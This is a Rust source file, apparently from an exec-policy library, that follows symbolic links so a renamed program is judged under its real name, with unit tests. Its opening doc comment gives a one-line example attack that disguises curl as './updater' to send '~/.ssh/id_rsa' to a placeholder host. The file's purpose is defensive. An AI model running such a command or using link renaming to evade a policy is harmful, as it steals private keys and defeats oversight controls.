//! The program an exec will really run, when it goes by another name.
//!
//! The threat: policies name programs (`touch`, `curl`, `rm`), and a symbolic link is a free
//! new name. `ln -s /usr/bin/curl ./updater && ./updater -d @~/.ssh/id_rsa https://x` runs curl
//! while the command says `./updater`. The library is about to exec a file on disk, so it can
//! look at it: the path given (or, for the PATH-searching calls, the first executable PATH
//! yields) is followed through its chain of links to the file the kernel will load. When that
//! file's name differs from the one used, the call is decided a second time under the real name,
//! and the stricter decision holds (see `decide`).
//!
//! Only the last component's links are followed: a link among the directories changes where a
//! program lives, not its name, and rules that name a directory also see the path as written.
//! A copy under another name has no link to follow; what recognising copies by content would
//! cost is measured in docs/protection.md.

use core::ffi::c_char;
use core::mem::MaybeUninit;

use crate::sys;
use crate::text::basename;

/// Longest path handled; a longer one is left to the name it was called by.
const PATH_MAX: usize = 4096;
/// Links followed before giving up (the kernel's own limit is 40).
const MAX_LINKS: usize = 40;

/// A path being resolved, NUL-terminated in a stack buffer.
///
/// The buffers here are left uninitialised and only what a path writes is read: every exec
/// resolves its program, and zeroing two 4 KiB buffers for a path of a few dozen bytes was a
/// quarter of a steady exec decision's instructions.
pub struct Resolved {
    /// Bytes `..= len` are written (the path and its NUL).
    buf: MaybeUninit<[u8; PATH_MAX]>,
    len: usize,
}

impl Resolved {
    /// `parts` joined, NUL-terminated; `None` when they do not fit.
    fn of(parts: &[&[u8]]) -> Option<Resolved> {
        // The length is a value known only at run time on purpose: with a constant one, rustc
        // makes the whole struct a constant whose uninitialised bytes it then writes as zeroes.
        let mut r = Resolved {
            buf: MaybeUninit::uninit(),
            len: parts.iter().map(|p| p.len()).sum(),
        };
        r.set(parts).then_some(r)
    }

    pub fn as_bytes(&self) -> &[u8] {
        written(self.slots(), self.len)
    }

    fn slots(&self) -> &[MaybeUninit<u8>; PATH_MAX] {
        // SAFETY: `MaybeUninit<[u8; N]>` and `[MaybeUninit<u8>; N]` have the same layout, and
        // neither claims its bytes are initialised.
        unsafe { &*self.buf.as_ptr().cast::<[MaybeUninit<u8>; PATH_MAX]>() }
    }

    fn slots_mut(&mut self) -> &mut [MaybeUninit<u8>; PATH_MAX] {
        // SAFETY: as for `slots`.
        unsafe { &mut *self.buf.as_mut_ptr().cast::<[MaybeUninit<u8>; PATH_MAX]>() }
    }

    fn c_ptr(&self) -> *const c_char {
        self.buf.as_ptr().cast()
    }

    /// Replaces the path with `parts` joined, NUL-terminated; false when it does not fit.
    ///
    /// Not `len = 0` and an append per part, which [`Resolved::replace_after`] could share:
    /// that shape brought back three 4 KiB memsets per exec (checked in the disassembly).
    fn set(&mut self, parts: &[&[u8]]) -> bool {
        let len: usize = parts.iter().map(|p| p.len()).sum();
        if len + 1 > PATH_MAX {
            return false;
        }
        let mut at = 0;
        for p in parts {
            if let Some(dst) = self.slots_mut().get_mut(at..at + p.len()) {
                for (d, s) in dst.iter_mut().zip(*p) {
                    d.write(*s);
                }
            }
            at += p.len();
        }
        if let Some(nul) = self.slots_mut().get_mut(at) {
            nul.write(0);
        }
        self.len = at;
        true
    }

    /// Keeps the first `keep` bytes and appends `tail` (a relative link's target after its
    /// link's directory); false when it does not fit.
    fn replace_after(&mut self, keep: usize, tail: &[u8]) -> bool {
        let keep = keep.min(self.len);
        self.len = keep;
        let Some(end) = keep.checked_add(tail.len()).filter(|&end| end < PATH_MAX) else {
            return false;
        };
        if let Some(dst) = self.slots_mut().get_mut(keep..end) {
            for (d, s) in dst.iter_mut().zip(tail) {
                d.write(*s);
            }
        }
        if let Some(nul) = self.slots_mut().get_mut(end) {
            nul.write(0);
        }
        self.len = end;
        true
    }
}

/// The first `len` bytes of `buf`, which the caller wrote (empty if `len` is past the buffer).
fn written(buf: &[MaybeUninit<u8>], len: usize) -> &[u8] {
    let Some(init) = buf.get(..len) else {
        return &[];
    };
    // SAFETY: `MaybeUninit<u8>` has the layout of `u8`, and the caller wrote these `len` bytes
    // (`Resolved::set`/`replace_after`, or `readlink`, which returned `len`).
    unsafe { core::slice::from_raw_parts(init.as_ptr().cast::<u8>(), init.len()) }
}

/// The file `path` runs, when its name differs from `path`'s. `search`: the call looks a bare
/// name up in `$PATH` (execvp and friends), `path_var` being that variable's value.
pub fn real_program(path: &[u8], search: bool, path_var: Option<&[u8]>) -> Option<Resolved> {
    let mut r = if search && !path.contains(&b'/') {
        in_path(path, path_var?)?
    } else {
        Resolved::of(&[path])?
    };
    let mut followed = false;
    let mut target = [MaybeUninit::<u8>::uninit(); PATH_MAX];
    for _ in 0..MAX_LINKS {
        // SAFETY: `r` is NUL-terminated; `target` holds PATH_MAX bytes.
        let n = unsafe { sys::readlink(r.c_ptr(), target.as_mut_ptr().cast(), PATH_MAX) };
        let Some(n) = usize::try_from(n).ok().filter(|&n| n <= PATH_MAX) else {
            break;
        };
        let link = written(&target, n);
        followed = true;
        let ok = if link.first() == Some(&b'/') {
            r.set(&[link])
        } else {
            let dir_len = r
                .as_bytes()
                .iter()
                .rposition(|&b| b == b'/')
                .map_or(0, |i| i + 1);
            r.replace_after(dir_len, link)
        };
        if !ok {
            return None;
        }
    }
    (followed && basename(r.as_bytes()) != basename(path)).then_some(r)
}

/// The first executable `dir/name` of the `:`-separated `path_var`.
fn in_path(name: &[u8], path_var: &[u8]) -> Option<Resolved> {
    let mut r = Resolved::of(&[name])?;
    for dir in path_var.split(|&b| b == b':') {
        let dir: &[u8] = if dir.is_empty() { b"." } else { dir };
        if r.set(&[dir, b"/", name]) {
            // SAFETY: `r` is NUL-terminated.
            if unsafe { sys::access(r.c_ptr(), libc::X_OK) } == 0 {
                return Some(r);
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::symlink;

    fn scratch(name: &str) -> std::path::PathBuf {
        let dir =
            std::env::temp_dir().join(format!("rampart-resolve-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(dir.join("bin")).unwrap();
        std::fs::create_dir_all(dir.join("lib")).unwrap();
        dir
    }

    #[test]
    fn a_chain_of_relative_and_absolute_links_ends_at_the_real_file() {
        let dir = scratch("chain");
        std::fs::write(dir.join("lib/curl"), b"").unwrap();
        // bin/updater -> ../lib/fetch (relative) -> curl (relative to lib/).
        symlink("../lib/fetch", dir.join("bin/updater")).unwrap();
        symlink("curl", dir.join("lib/fetch")).unwrap();
        let path = dir.join("bin/updater");
        let real = real_program(path.to_str().unwrap().as_bytes(), false, None).unwrap();
        let expected = format!("{}/bin/../lib/curl", dir.display());
        assert_eq!(real.as_bytes(), expected.as_bytes());
        // An absolute link to the same name is no new name.
        symlink(dir.join("lib/curl"), dir.join("bin/curl")).unwrap();
        assert!(real_program(
            dir.join("bin/curl").to_str().unwrap().as_bytes(),
            false,
            None
        )
        .is_none());
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn a_bare_name_is_looked_up_in_path_first() {
        let dir = scratch("search");
        std::fs::write(dir.join("lib/touch"), b"").unwrap();
        std::fs::set_permissions(
            dir.join("lib/touch"),
            std::os::unix::fs::PermissionsExt::from_mode(0o755),
        )
        .unwrap();
        symlink(dir.join("lib/touch"), dir.join("bin/t")).unwrap();
        let path_var = format!("/nonexistent:{}/bin", dir.display());
        let real = real_program(b"t", true, Some(path_var.as_bytes())).unwrap();
        assert_eq!(
            real.as_bytes(),
            dir.join("lib/touch").to_str().unwrap().as_bytes()
        );
        assert!(real_program(b"t", true, Some(b"/nonexistent")).is_none());
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn a_path_that_does_not_fit_is_left_to_its_name() {
        let long = [b'a'; PATH_MAX];
        assert!(real_program(&long, false, None).is_none());
    }
}
